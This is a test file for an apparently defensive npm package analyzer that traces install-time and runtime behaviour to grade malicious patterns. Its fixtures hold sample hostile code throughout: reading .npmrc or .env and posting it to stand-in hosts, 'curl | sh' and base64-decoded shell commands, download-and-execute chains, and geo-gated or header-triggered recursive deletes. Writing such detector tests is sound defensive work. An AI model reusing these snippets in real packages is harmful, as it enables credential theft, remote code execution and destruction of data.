/** The behaviour model: entry points, traced flows, and severity from the chain rather than from strings. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeContent } from '../../src/analyzers/content/index.js';
import { filesOf } from './helpers.js';

const pkg = (extra: Record<string, unknown> = {}): string => JSON.stringify({ name: 'p', version: '1.0.0', ...extra });
const run = async (files: Record<string, string>) => analyzeContent(filesOf(files), 'pkg:npm/p@1.0.0');
const rules = async (files: Record<string, string>): Promise<string[]> =>
  (await run(files)).findings
    .filter((f) => f.rule !== 'content/install-capabilities')
    .map((f) => `${f.rule}:${f.severity}`)
    .sort();

test('a secret path held in a variable, read, then written to a request: proven install-time exfiltration with file:line', async () => {
  const { findings, facts } = await run({
    'package.json': pkg({ scripts: { postinstall: 'node lib/x.js' } }),
    'lib/x.js':
      "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst p = path.join(os.homedir(), '.npmrc');\nconst t = fs.readFileSync(p, 'utf8');\nconst r = https.request({ host: 'h.invalid', method: 'POST' });\nr.end(t);\n",
  });
  const f = findings.find((x) => x.rule === 'content/secret-exfiltration')!;
  assert.equal(f.severity, 'critical');
  assert.equal(f.confidence, 'high', 'the flow is traced, not just co-located');
  assert.equal(facts.behaviour?.chains[0]?.proven, true);
  const hops = f.evidence.map((e) => `${e.label?.split(':')[0]} ${e.file ?? e.field}${e.line ? `:${e.line}` : ''}`);
  assert.deepEqual(hops, ['entry (install) scripts.postinstall', 'source lib/x.js:5', 'sink lib/x.js:8']);
});

test('the environment handed to a child process is not exfiltration', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ scripts: { postinstall: 'node build.js' } }),
      'build.js':
        "const { spawnSync } = require('child_process');\nconst https = require('https');\nspawnSync('node-gyp', ['rebuild'], { env: { ...process.env, CXX: 'g++' }, stdio: 'inherit' });\nhttps.get('https://releases.tool.invalid/v1/bin', (r) => r.resume());\n",
    }),
    [],
  );
});

test('listing ~/.ssh/*.pub next to an HTTP client is neither credential access nor exfiltration', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ bin: { t: 'cli.js' } }),
      'cli.js':
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst dir = path.join(os.homedir(), '.ssh');\nconst keys = fs.readdirSync(dir).filter((f) => f.endsWith('.pub'));\nconsole.log(keys);\nmodule.exports = (o) => https.request(o);\n",
    }),
    [],
  );
});

test('download → write → run the same file: high at install; chmod only: medium; hash checked: low; other file: none', async () => {
  const body = (check: boolean, tail: string) =>
    "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\nconst { spawn } = require('child_process');\nconst dest = require('os').tmpdir() + '/tool';\nhttps.get('https://dl.invalid/tool', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => {\n    const buf = Buffer.concat(parts);\n" +
    (check ? "    if (crypto.createHash('sha256').update(buf).digest('hex') !== 'ab') throw new Error('bad');\n" : '') +
    `    fs.writeFileSync(dest, buf);\n${tail}  });\n});\n`;
  const at = async (check: boolean, tail: string) =>
    rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(check, tail) });
  const chmod = '    fs.chmodSync(dest, 0o755);\n';
  assert.deepEqual(await at(false, chmod + '    spawn(dest, [], { detached: true });\n'), ['content/remote-code:high']);
  assert.deepEqual(await at(false, chmod), ['content/remote-code:medium']);
  assert.deepEqual(await at(true, chmod), ['content/remote-code:low']);
  // The installer makes a different file executable (its own binary, unpacked elsewhere): no chain.
  assert.deepEqual(await at(false, "    fs.chmodSync(require('./location').path, 0o755);\n"), []);
});

test('a file streamed from a download and then run is the same chain as a buffered one', async () => {
  const js =
    "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nconst out = '/tmp/.cache-x';\nhttps.get('https://dl.invalid/x', (res) => {\n  const file = fs.createWriteStream(out);\n  res.pipe(file);\n  file.on('finish', () => cp.execFile(out));\n});\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': js }), [
    'content/remote-code:high',
  ]);
});

test('a credential sent to the address the environment configures is its intended use (OIDC token request)', async () => {
  const js =
    "async function token() {\n  const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);\n  url.searchParams.append('audience', 'npm');\n  const res = await fetch(url.href, { headers: { Authorization: `Bearer ${process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } });\n  return res.json();\n}\nmodule.exports = token;\n";
  const found = (await run({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js })).findings.filter(
    (f) => f.rule === 'content/secret-exfiltration',
  );
  assert.deepEqual(
    found.map((f) => f.severity),
    ['low'],
  );
  // The same token sent to a host written into the package, not named by the credential: high.
  const hard = js.replace('process.env.ACTIONS_ID_TOKEN_REQUEST_URL', "'https://collect.invalid/t'");
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': hard }), ['content/secret-exfiltration:high']);
});

test('credential names are whole name segments: UNAUTHORIZED is not AUTH, a …_URL is where a token goes', async () => {
  const js =
    "const https = require('https');\nconst opts = { rejectUnauthorized: process.env.SASS_REJECT_UNAUTHORIZED !== '0', host: process.env.TOKEN_SERVER_URL };\nhttps.get('https://dl.invalid/binding.node', opts, (r) => r.resume());\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': js }), []);
});

test('bundles: net.isIP is not a connection, and a write to one parameter named options does not taint every options', async () => {
  const js =
    "const net = require('net');\nconst cp = require('child_process');\nfunction tlsConnect(options) {\n  options.servername = net.isIP(options.host) ? '' : options.host;\n  return require('tls').connect(options);\n}\nfunction spawn(command, args, options) {\n  return cp.spawn(command, args, options);\n}\nmodule.exports = { tlsConnect, spawn };\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js }), []);
});

test("a function's value is what it returns, not every call in its body", async () => {
  const js =
    "const fs = require('fs');\nconst { execSync } = require('child_process');\nasync function ensureTool() {\n  const p = '/opt/cache/tool';\n  if (fs.existsSync(p)) return p;\n  const res = await fetch('https://dl.invalid/tool');\n  const ok = res.ok;\n  return p;\n}\nasync function main() {\n  const tool = await ensureTool();\n  execSync(`\"${tool}\" --version`);\n}\nmodule.exports = main;\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js }), []);
});

test('paths: reading a file found under node_modules and writing elsewhere is not tampering; writing into its own installed copy neither', async () => {
  const bundle =
    "const fs = require('fs');\nconst path = require('path');\nlet dir = path.join(__dirname, 'node_modules', process.argv[2]);\nconst json = require(path.join(dir, 'package.json'));\nfs.writeFileSync(path.join(__dirname, 'dist', json.name + '.js'), 'x');\n";
  assert.deepEqual(await rules({ 'package.json': pkg(), 'scripts/bundle.js': bundle }), []);
  const self = "const fs = require('fs');\nfs.writeFileSync(require('path').resolve('/usr/lib/node_modules/p', 'npmrc'), 'x');\n";
  assert.deepEqual(await rules({ 'package.json': pkg(), 'lib/finish.js': self }), []);
  const other = self.replace('node_modules/p', 'node_modules/left-pad');
  assert.deepEqual(await rules({ 'package.json': pkg(), 'lib/finish.js': other }), ['content/persistence:medium']);
});

test('binding.gyp without an install script is an install entry that reaches the files its expansions run', async () => {
  const { facts, findings } = await run({
    'package.json': pkg(),
    'binding.gyp': '{ "targets": [ { "target_name": "a", "sources": ["<!(node gen.js)"] } ] }',
    'gen.js': "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname() + '.b.invalid', () => {});\n",
  });
  const gyp = facts.behaviour!.entries.find((e) => e.field === 'binding.gyp')!;
  assert.equal(gyp.implicit, true);
  assert.deepEqual(gyp.reach, ['binding.gyp', 'gen.js']);
  assert.deepEqual(
    findings.map((f) => `${f.rule}:${f.severity}`),
    ['content/identity-beacon:high'],
  );
});

test('a chain found through main names every require hop with its line', async () => {
  const { findings } = await run({
    'package.json': pkg({ main: 'index.js' }),
    'index.js': "'use strict';\nmodule.exports = require('./lib/util');\n",
    'lib/util.js': "const load = require('./net');\nmodule.exports = load;\n",
    'lib/net.js': "fetch('https://cfg.invalid/x.js').then((r) => r.text()).then((src) => eval(src));\n",
  });
  const f = findings.find((x) => x.rule === 'content/remote-code')!;
  assert.equal(f.severity, 'high');
  assert.deepEqual(
    f.evidence.filter((e) => e.label?.startsWith('import')).map((e) => `${e.file}:${e.line}`),
    ['index.js:2', 'lib/util.js:1'],
  );
});

test('the same identity flow is a beacon at install and low at runtime', async () => {
  const code = "const os = require('os');\nfetch('https://t.invalid/?h=' + os.hostname());\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { preinstall: 'node t.js' } }), 't.js': code }), [
    'content/identity-beacon:high',
  ]);
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 't.js' }), 't.js': code }), ['content/identity-beacon:low']);
});

test('a country check and a file deletion far apart in one bundle are not sabotage; the same two together are', async () => {
  // Unrelated modules of one bundle: a help text that checks the locale, and a cleanup 8 KiB later.
  const gap = Array.from({ length: 400 }, (_, i) => `function f${i}(a){return a+${i}}`).join(';\n');
  const apart =
    "const fs = require('fs');\nfunction help(o){ if (o.country === 'XA') return 'usage'; return ''; }\n" +
    gap +
    '\nfunction cleanup(p){ fs.unlinkSync(p); }\nmodule.exports = { help, cleanup };\n';
  assert.ok(apart.indexOf('unlinkSync') - apart.indexOf('country') > 4096);
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': apart }), []);
  const together = "const fs = require('fs');\nfunction go(o, p){ if (o.country === 'XA') fs.unlinkSync(p); }\nmodule.exports = { go };\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': together }), ['content/sabotage:high']);
});

test('a time-zone gate through a variable before a recursive delete is sabotage', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js':
        "const fs = require('fs');\nconst zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (zone === 'Region/City') fs.rmSync(process.cwd(), { recursive: true });\n",
    }),
    ['content/sabotage:high'],
  );
});

test('an endless loop counts only in code that loading the package runs', async () => {
  const loop = 'while (true) {\n  work();\n}\nfunction work() {}\n';
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': loop }), ['content/sabotage:high']);
  assert.deepEqual(
    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'scripts/serve.js': loop }),
    [],
  );
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'index.js' }),
      'index.js': 'while (true) {\n  if (next()) break;\n}\nfunction next() { return true; }\n',
    }),
    [],
  );
});

test('replacing fetch is low alone and high with wallet-address matching', async () => {
  const hook = 'window.fetch = function (u, o) { return orig(u, o); };\nconst orig = fetch;\n';
  assert.deepEqual(await rules({ 'package.json': pkg({ browser: 'b.js' }), 'b.js': hook }), ['content/browser-hijack:low']);
  assert.deepEqual(await rules({ 'package.json': pkg({ browser: 'b.js' }), 'b.js': hook + 'const re = /0x[a-fA-F0-9]{40}/g;\n' }), [
    'content/browser-hijack:high',
  ]);
});

test('a tool sending its own token to the service it is named after is low at runtime; elsewhere or harvesting is high', async () => {
  const send = (host: string, name: string) =>
    rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': `fetch('https://${host}/x', { headers: { authorization: 'token ' + process.env.${name} } });\n`,
    });
  assert.deepEqual(await send('api.github.invalid', 'GITHUB_TOKEN'), ['content/secret-exfiltration:low']);
  assert.deepEqual(await send('api.openai.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:low']);
  const own = (
    await run({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': "fetch('https://api.github.invalid/x', { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
    })
  ).findings.find((f) => f.rule === 'content/secret-exfiltration');
  assert.match(own?.title ?? '', /to the service it is named after \(api\.github\.invalid\)/);
  // The same token at install is still theft: install code has no business sending it anywhere.
  assert.deepEqual(
    await rules({
      'package.json': pkg({ scripts: { postinstall: 'node i.js' } }),
      'i.js': "fetch('https://api.github.invalid/x', { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
    }),
    ['content/secret-exfiltration:critical'],
  );
  // Address unknown in this file (a constant from elsewhere): not proven to be its own service.
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': "const { BASE } = require('./c');\nfetch(`${BASE}x`, { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
      'c.js': "exports.BASE = 'https://api.github.invalid/';\n",
    }),
    ['content/secret-exfiltration:medium'],
  );
  assert.deepEqual(await send('collect.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:high']);
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js':
        "const h = { a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY };\nfetch('https://api.invalid/x', { headers: h });\n",
    }),
    ['content/secret-exfiltration:high'],
  );
});

test('a command string that pipes a download into a shell is remote code in JavaScript too, one finding per behaviour', async () => {
  const js = "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://dl.invalid/s.sh | sh');\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': js }), [
    'content/remote-code:critical',
  ]);
  const decoded = "require('child_process').exec('echo ZWNobyBoaQ== | base64 -d | sh');\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': decoded }), [
    'content/decoded-exec:critical',
  ]);
});

test("a project's .env file is a secret when its contents are traced to a request; reading it for settings is not", async () => {
  const leak =
    "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst text = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');\nhttps.get('https://collect.invalid/?d=' + encodeURIComponent(text));\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': leak }), ['content/secret-exfiltration:high']);
  const settings =
    "const fs = require('fs');\nconst https = require('https');\nconst cfg = fs.existsSync('.env') ? fs.readFileSync('.env', 'utf8') : '';\nconst mirror = /MIRROR=(.*)/.exec(cfg);\nhttps.get('https://dl.invalid/engine.tgz', (r) => r.resume());\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': settings }), []);
});

test('writing into another installed application is tampering; a build writing its own app bundle is not', async () => {
  const patch =
    "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst root = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'wallet', 'resources');\nfor (const f of fs.readdirSync(root)) fs.writeFileSync(path.join(root, f), 'x');\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': patch }), [
    'content/persistence:high',
  ]);
  const build =
    "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join('dist', 'mac', 'App.app', 'Contents', 'Resources', 'app.asar'), 'x');\n";
  assert.deepEqual(await rules({ 'package.json': pkg(), 'build.js': build }), []);
});

test('a request handler that deletes files when a request field equals a fixed value is a remote kill switch', async () => {
  const js = (cond: string) =>
    `const { exec } = require('child_process');\nmodule.exports = (app) => app.post('/_/health', (req, res) => {\n  if (${cond}) exec('rm -rf ' + process.cwd());\n  res.end();\n});\n`;
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js("req.headers['x-key'] === 'k3y'") }), [
    'content/sabotage:high',
  ]);
  // Clearing a cache on an ordinary condition is not a trigger.
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js('process.env.CLEAN === "1"') }), []);
});

test('another package means a package name after node_modules/: tool caches, directory matchers, globs and $-names are not one', async () => {
  const write = (target: string) =>
    rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': `const fs = require('fs');\nconst path = require('path');\nconst p = ${target};\nfs.writeFileSync(p, '{}');\n`,
    });
  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', '.cache', 'tool', 'x.json')"), []);
  assert.deepEqual(await write("'node_modules/$app/tsconfig.json'"), []);
  assert.deepEqual(await write("['!**/node_modules/**', process.argv[2]].pop()"), []);
  assert.deepEqual(await write("['/node_modules/'][0] + process.argv[2]"), []);
  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', 'left-pad', 'index.js')"), ['content/persistence:medium']);
  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', '@scope/pkg', 'index.js')"), ['content/persistence:medium']);
  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', process.argv[2], 'index.js')"), ['content/persistence:medium']);
});

test('test code nothing loads writing fixtures into node_modules or .npmrc is low; the same code reached from main is medium', async () => {
  const body =
    "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfs.writeFileSync(path.join(os.tmpdir(), 'node_modules', 'robot', 'index.js'), 'x');\nfs.writeFileSync(path.join(os.tmpdir(), '.npmrc'), 'registry=http://127.0.0.1/');\n";
  assert.deepEqual(
    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'test/api.test.js': body }),
    ['content/persistence:low'],
  );
  assert.deepEqual(
    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': "require('./test/api.test.js');\n", 'test/api.test.js': body }),
    ['content/persistence:medium'],
  );
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'lib/setup.js': body }), [
    'content/persistence:medium',
  ]);
});

test('a destructured country field looked up in a literal list gates a delete: sabotage', async () => {
  const gate = (cond: string) =>
    rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': `const fs = require('fs');\n(async () => {\n  const { countryCode } = await (await fetch('https://geo.invalid/json')).json();\n  if (${cond}) fs.rmSync(process.cwd(), { recursive: true });\n})();\n`,
    });
  assert.deepEqual(await gate("['XA', 'XB'].includes(countryCode)"), ['content/sabotage:high']);
  assert.deepEqual(await gate("['XA', 'XB'].indexOf(countryCode) >= 0"), ['content/sabotage:high']);
  // A list lookup of something that is not a geo field is not a gate.
  assert.deepEqual(await gate("['XA', 'XB'].includes(process.argv[2])"), []);
});

test('a loader function assigned to require.load does not make every later require() remote data (requirejs r.js shape)', async () => {
  const loader =
    "require.load = function (context, name, url) {\n  var xhr = new XMLHttpRequest();\n  xhr.open('GET', url, true);\n  xhr.send();\n};\n" +
    "var nodeFs = require('fs');\nvar vm = require('vm');\nfunction load(url) {\n  var contents = nodeFs.readFileSync(url, 'utf8');\n  vm.runInThisContext(contents, nodeFs.realpathSync(url));\n}\nmodule.exports = load;\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ bin: { r: 'r.js' } }), 'r.js': loader }), []);
  // The same XHR response run by the same file is still remote code.
  const evil = "var xhr = new XMLHttpRequest();\nxhr.open('GET', 'https://c2.invalid/x', false);\nxhr.send();\neval(xhr.responseText);\n";
  assert.ok((await rules({ 'package.json': pkg({ main: 'r.js' }), 'r.js': evil })).some((r) => r.startsWith('content/remote-code:')));
});
